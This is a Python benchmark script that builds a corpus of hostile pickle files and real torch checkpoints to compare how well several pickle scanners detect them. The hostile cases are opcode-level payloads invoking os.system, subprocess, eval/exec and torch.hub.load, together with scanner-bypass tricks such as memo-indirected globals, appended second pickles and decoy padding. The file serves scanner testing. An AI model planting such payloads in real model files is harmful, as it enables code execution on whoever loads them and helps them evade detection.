"""Which pickle scanner catches what: originscan, picklescan, fickling and modelscan on one corpus.

    make bench-pickles        # or: bench/.venv-pickles/bin/python bench/pickles/run.py

Runs in a bench venv holding torch==2.13.0 (CPU), picklescan, fickling and modelscan (never the project's venv).
The hostile cases are opcode bytes (tests/pickle_asm.py); nothing here unpickles anything. The legitimate cases
are real checkpoints written by torch.save. originscan is run end to end (`originscan scan --format json` on one
repo holding the whole corpus, with the project's venv); the other tools through their Python APIs, each in a
worker process with a per-file timeout so that one hang costs one cell.

Cell legend: CAUGHT (reported as unsafe), unverif (originscan: cannot be shown safe), SUSP (fickling's
"suspicious" or picklescan's "suspicious globals"), error (the tool failed on the file), -- (reported clean),
TIMEOUT. On legitimate files anything but -- is a false positive.
"""

from __future__ import annotations

import argparse
import io
import json
import selectors
import subprocess
import sys
import time
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
from pickle_asm import (  # noqa: E402
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    call,
    get,
    glob,
    int1,
    legacy,
    long_get,
    pkl,
    proto,
    short,
    state_dict,
    torch_zip,
    uni,
    zip_checkpoint,
)

CORPUS = ROOT / "bench" / ".corpus" / "pickles"
TOOLS = ("originscan", "picklescan", "fickling", "fickling-ml", "modelscan")
TIMEOUT_S = 60
MARKER = "@@bench@@ "  # the tools print too: the worker's own lines carry this prefix


# -- the corpus ----------------------------------------------------------------------------------------------------
def hostile_cases() -> dict[str, bytes]:
    os_system = pkl(call("os", "system", "touch /tmp/originscan-bench-pwned"))
    memo_74 = (
        proto(4)
        + short("os")
        + MEMOIZE
        + short("system")
        + MEMOIZE
        + POP
        + POP
        + short("torch._utils")
        + short("_rebuild_tensor_v2")
        + POP
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + short("echo pwned")
        + TUPLE1
        + REDUCE
        + STOP
    )
    memo_long = (
        proto(4)
        + short("subprocess")
        + b"r"
        + (70000).to_bytes(4, "little")
        + POP
        + short("check_output")
        + MEMOIZE
        + POP
        + long_get(70000)
        + get(1)
        + STACK_GLOBAL
        + MARK
        + short("id")
        + b"l"
        + TUPLE1
        + REDUCE
        + STOP
    )
    getattr_chain = pkl(
        glob("builtins", "getattr"),
        MARK,
        glob("builtins", "__import__"),
        uni("os"),
        TUPLE1,
        REDUCE,
        uni("system"),
        TUPLE,
        REDUCE,
        uni("true"),
        TUPLE1,
        REDUCE,
    )
    return {
        # the three bypasses of issue #8
        "bypass1-legacy-payload-in-pickle-3.bin": legacy(state_dict("w"), sys_info=os_system),
        "bypass1-legacy-payload-after-storages.bin": legacy(state_dict("w"), tail=os_system),
        "bypass1-second-pickle.pkl": pkl(int1(1)) + os_system,
        "bypass2-memo-stack-global-74b.pkl": memo_74,
        "bypass2-memo-long-binget.pkl": memo_long,
        "bypass3-torch.hub.load.pt": zip_checkpoint(pkl(call("torch.hub", "load", "attacker/repo"))),
        "bypass3-torch.serialization.load.pt": zip_checkpoint(pkl(call("torch.serialization", "load", "x.pt"))),
        "bypass3-numpy-runstring.pt": zip_checkpoint(
            pkl(glob("numpy.testing._private.utils", "runstring"), uni("import os"), EMPTY_DICT, b"\x86", REDUCE)
        ),
        # classic payloads
        "classic-os-system.pkl": os_system,
        "classic-posix-system.pkl": pkl(call("posix", "system")),
        "classic-builtins-eval.pkl": pkl(call("builtins", "eval", "__import__('os').system('true')")),
        "classic-builtins-exec.pkl": pkl(call("builtins", "exec", "import os")),
        "classic-subprocess-popen.pkl": pkl(glob("subprocess", "Popen"), MARK, uni("true"), b"l", TUPLE1, REDUCE),
        "classic-runpy-run-path.pkl": pkl(call("runpy", "_run_code", "import os")),
        "classic-getattr-import-chain.pkl": getattr_chain,
        "classic-webbrowser-open.pkl": pkl(call("webbrowser", "open", "http://example.invalid")),
        "proto0-global-builtin-eval.pkl": b"c__builtin__\neval\n(S'1+1'\ntR.",
        "proto0-inst-os-system.pkl": b"(S'true'\nios\nsystem\n.",
        "proto1-obj-os-system.pkl": b"(cos\nsystem\nS'true'\no.",
        "stack-global-from-call-result.pkl": pkl(
            glob("collections", "OrderedDict"),
            EMPTY_TUPLE,
            REDUCE,
            short("system"),
            STACK_GLOBAL,
            uni("true"),
            TUPLE1,
            REDUCE,
            protocol=4,
        ),
        "build-patches-torch-tensor.pt": zip_checkpoint(
            pkl(glob("torch", "Tensor"), EMPTY_DICT, uni("__reduce_ex__"), int1(1), b"s", BUILD)
        ),
        # containers
        "zip-payload-in-other-member.pt": zip_checkpoint(state_dict("w"), {"archive/extra/constants.pkl": os_system}),
        "zip-nested-checkpoint.pt": torch_zip(
            {"bundle/inner.pt": zip_checkpoint(os_system), "bundle/data.pkl": state_dict("w")}
        ),
        "joblib-zlib-compressed.joblib": zlib.compress(os_system),
        # cost: a payload behind decoys (each tool's time on these is in its seconds figure)
        "cost-200k-decoy-globals-then-payload.pkl": proto(2)
        + b"".join(glob(f"mod{i}", f"fn{i}") + POP for i in range(200_000))
        + os_system[2:],
        "cost-8mb-of-strings-then-payload.pkl": proto(4) + (short("a") + POP) * (2 << 20) + os_system[2:],
    }


def legit_cases() -> dict[str, bytes]:
    """Real torch.save output (needs torch in this venv)."""
    import numpy as np
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 8), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
    sd = model.state_dict()

    def save(obj, **kw) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    half = {k: v.half() if v.is_floating_point() else v for k, v in sd.items()}
    return {
        "legit-torch-zip-state-dict.pt": save(sd),
        "legit-torch-legacy-state-dict.bin": save(sd, _use_new_zipfile_serialization=False),
        "legit-torch-zip-protocol4.pt": save(sd, pickle_protocol=4),
        "legit-torch-zip-fp16-bf16.bin": save({**half, "extra": torch.zeros(3, dtype=torch.bfloat16)}),
        "legit-torch-parameters.pth": save({"p": torch.nn.Parameter(torch.ones(4)), "step": 10}),
        "legit-torch-with-numpy-array.pt": save({"w": torch.ones(2), "mask": np.arange(3)}),
    }


def write_corpus() -> dict[str, str]:
    """Writes the corpus; returns file name -> 'hostile' | 'legit'."""
    repo = CORPUS / "repo"
    repo.mkdir(parents=True, exist_ok=True)
    for old in repo.iterdir():
        old.unlink()
    (repo / "README.md").write_text("---\nlicense: mit\n---\n# pickle corpus\n")
    kinds = {}
    for kind, cases in (("hostile", hostile_cases()), ("legit", legit_cases())):
        for name, data in cases.items():
            (repo / name).write_bytes(data)
            kinds[name] = kind
    return kinds


# -- the tools ---------------------------------------------------------------------------------------------------
def verdict_picklescan(path: str) -> str:
    from picklescan.scanner import scan_file_path

    r = scan_file_path(path)
    if r.scan_err:
        return "error"
    if r.infected_files or r.issues_count:
        return "CAUGHT"
    return "SUSP" if r.suspicious_count else "--"


def verdict_fickling(path: str) -> str:
    import zipfile

    from fickling import scan_file, scan_zip_archive
    from fickling.analysis import Severity

    results = (
        list(scan_zip_archive(path, graceful=True).values())
        if zipfile.is_zipfile(path)
        else [scan_file(path, graceful=True)]
    )
    if not results:
        return "--"
    worst = max(r.severity for r in results)
    if any(r.errors for r in results) and worst <= Severity.SUSPICIOUS:
        return "error"
    if worst <= Severity.LIKELY_SAFE:
        return "--"
    return "SUSP" if worst == Severity.SUSPICIOUS else "CAUGHT"


def verdict_fickling_ml(path: str) -> str:
    """fickling with its ML allow-list (fickling.ml.MLAllowlist, what its safe-ML loader enforces) instead of its
    default analyses, over every pickle of the file or of the zip's .pkl members."""
    import zipfile

    from fickling.analysis import Analyzer, Severity
    from fickling.fickle import StackedPickle
    from fickling.ml import MLAllowlist

    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as zf:
            blobs = [zf.read(n) for n in zf.namelist() if n.endswith(".pkl")]
    else:
        blobs = [Path(path).read_bytes()]
    worst = Severity.LIKELY_SAFE
    for blob in blobs:
        for pickled in StackedPickle.load(io.BytesIO(blob), fail_on_decode_error=False):
            worst = max(worst, Analyzer([MLAllowlist()]).analyze(pickled).severity)
    return "--" if worst <= Severity.LIKELY_SAFE else "SUSP" if worst == Severity.SUSPICIOUS else "CAUGHT"


def verdict_originscan(path: str) -> str:
    """The analysis behind originscan's security.pickle_* rules, per file (for timing beside the others)."""
    sys.path.insert(0, str(ROOT))
    from scanner.evidence.pickles import scan_pickle
    from scanner.sources.bytesource import FileByteSource

    src = FileByteSource(path)
    try:
        r = scan_pickle(src)
    finally:
        src.close()
    return "CAUGHT" if r.dangerous else "unverif" if r.error else "--"


def verdict_modelscan(path: str) -> str:
    from modelscan.modelscan import ModelScan

    r = ModelScan().scan(path)
    if r.get("issues"):
        return "CAUGHT"
    if r.get("errors"):
        return "error"
    scanned = r.get("summary", {}).get("scanned", {}).get("total_scanned", 0)
    return "--" if scanned else "skipped"


def worker(tool: str, paths: list[str]) -> None:
    """One tool over many files: prints one JSON line per file (the parent enforces the timeout)."""
    import logging

    logging.disable(logging.CRITICAL)
    fn = {
        "originscan-api": verdict_originscan,
        "picklescan": verdict_picklescan,
        "fickling": verdict_fickling,
        "fickling-ml": verdict_fickling_ml,
        "modelscan": verdict_modelscan,
    }[tool]
    for path in paths:
        t = time.perf_counter()
        try:
            verdict = fn(path)
        except Exception as exc:  # a tool that raises has failed on that file
            verdict = f"error:{type(exc).__name__}"
        print(MARKER + json.dumps({"path": path, "verdict": verdict, "s": time.perf_counter() - t}), flush=True)


def run_tool(tool: str, paths: list[str]) -> dict[str, tuple[str, float]]:
    """Runs `worker` in child processes; a file that exceeds TIMEOUT_S is marked and the rest go on."""
    out: dict[str, tuple[str, float]] = {}
    todo = list(paths)
    while todo:
        python = str(ROOT / ".venv" / "bin" / "python") if tool == "originscan-api" else sys.executable
        proc = subprocess.Popen(
            [python, __file__, "--worker", tool, *todo], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
        )
        deadline = time.monotonic() + TIMEOUT_S
        sel = selectors.DefaultSelector()
        sel.register(proc.stdout, selectors.EVENT_READ)
        while todo:
            if not sel.select(timeout=max(0.0, deadline - time.monotonic())):
                proc.kill()
                out[todo[0]] = ("TIMEOUT", float(TIMEOUT_S))
                todo = todo[1:]
                break
            line = proc.stdout.readline()
            if not line:  # the worker died on this file
                out[todo[0]] = ("error:crash", 0.0)
                todo = todo[1:]
                break
            if not line.startswith(MARKER):
                continue
            rec = json.loads(line[len(MARKER) :])
            out[rec["path"]] = (rec["verdict"], rec["s"])
            todo.remove(rec["path"])
            deadline = time.monotonic() + TIMEOUT_S
        proc.stdout.close()
        proc.wait()
    return out


def run_originscan(repo: Path) -> tuple[dict[str, str], float]:
    exe = ROOT / ".venv" / "bin" / "originscan"
    t = time.perf_counter()
    proc = subprocess.run(
        [str(exe), "scan", str(repo), "--format", "json", "--fail-on", "never"],
        capture_output=True,
        text=True,
        timeout=600,
    )
    took = time.perf_counter() - t
    if proc.returncode != 0:
        raise SystemExit(f"originscan failed ({proc.returncode}): {proc.stderr.strip()[-300:]}")
    verdicts: dict[str, str] = {}
    for f in json.loads(proc.stdout)["targets"][0]["findings"]:
        if f["rule"] == "security.pickle_unsafe_import":
            verdicts[f["path"]] = "CAUGHT"
        elif f["rule"] == "security.pickle_unverifiable":
            verdicts.setdefault(f["path"], "unverif")
    return verdicts, took


def main() -> None:
    kinds = write_corpus()
    repo = CORPUS / "repo"
    names = sorted(kinds, key=lambda n: (kinds[n] != "hostile", n))
    paths = [str(repo / n) for n in names]
    table: dict[str, dict[str, str]] = {n: {} for n in names}
    times: dict[str, dict[str, float]] = {n: {} for n in names}
    seconds: dict[str, float] = {}
    verdicts, end_to_end = run_originscan(repo)
    per_file = run_tool("originscan-api", paths)
    seconds["originscan"] = sum(s for _, s in per_file.values())
    for n, p in zip(names, paths):
        table[n]["originscan"] = verdicts.get(n, "--")
        times[n]["originscan"] = per_file[p][1]
        assert per_file[p][0] == table[n]["originscan"], (n, per_file[p], table[n])  # the CLI and the API agree
    for tool in TOOLS[1:]:
        res = run_tool(tool, paths)
        seconds[tool] = sum(s for _, s in res.values())
        for n, p in zip(names, paths):
            table[n][tool], times[n][tool] = res[p]

    width = max(len(n) for n in names)
    header = f"{'case':<{width}}  " + "  ".join(f"{t:>11}" for t in TOOLS)
    print(header)
    for i, n in enumerate(names):
        if i == 0 or kinds[n] != kinds[names[i - 1]]:
            print(f"-- {kinds[n]} ".ljust(len(header), "-"))
        print(f"{n:<{width}}  " + "  ".join(f"{table[n][t][:11]:>11}" for t in TOOLS))
    hostile = [n for n in names if kinds[n] == "hostile"]
    legit = [n for n in names if kinds[n] == "legit"]
    print("-" * len(header))

    def flagged(v: str) -> bool:
        return v not in ("--", "skipped")

    for label, rows, pred in (
        ("hostile caught (CAUGHT)", hostile, lambda v: v == "CAUGHT"),
        ("hostile flagged at all", hostile, flagged),
        ("false positives on legit", legit, flagged),
    ):
        print(
            f"{label:<{width}}  "
            + "  ".join(f"{sum(pred(table[n][t]) for n in rows):>8}/{len(rows):<2}" for t in TOOLS)
        )
    print(f"{'seconds (whole corpus)':<{width}}  " + "  ".join(f"{seconds[t]:>11.2f}" for t in TOOLS))
    for n in names:
        if n.startswith("cost-"):
            print(f"{'  s: ' + n:<{width}}  " + "  ".join(f"{times[n][t]:>11.2f}" for t in TOOLS))
    print(
        f"\nseconds: the sum of per-file API calls (tool import excluded); one end-to-end `originscan scan` of "
        f"the whole corpus took {end_to_end:.2f} s (process start and every other check included)."
    )


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--worker", nargs="+", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.worker:
        worker(args.worker[0], args.worker[1:])
    else:
        main()
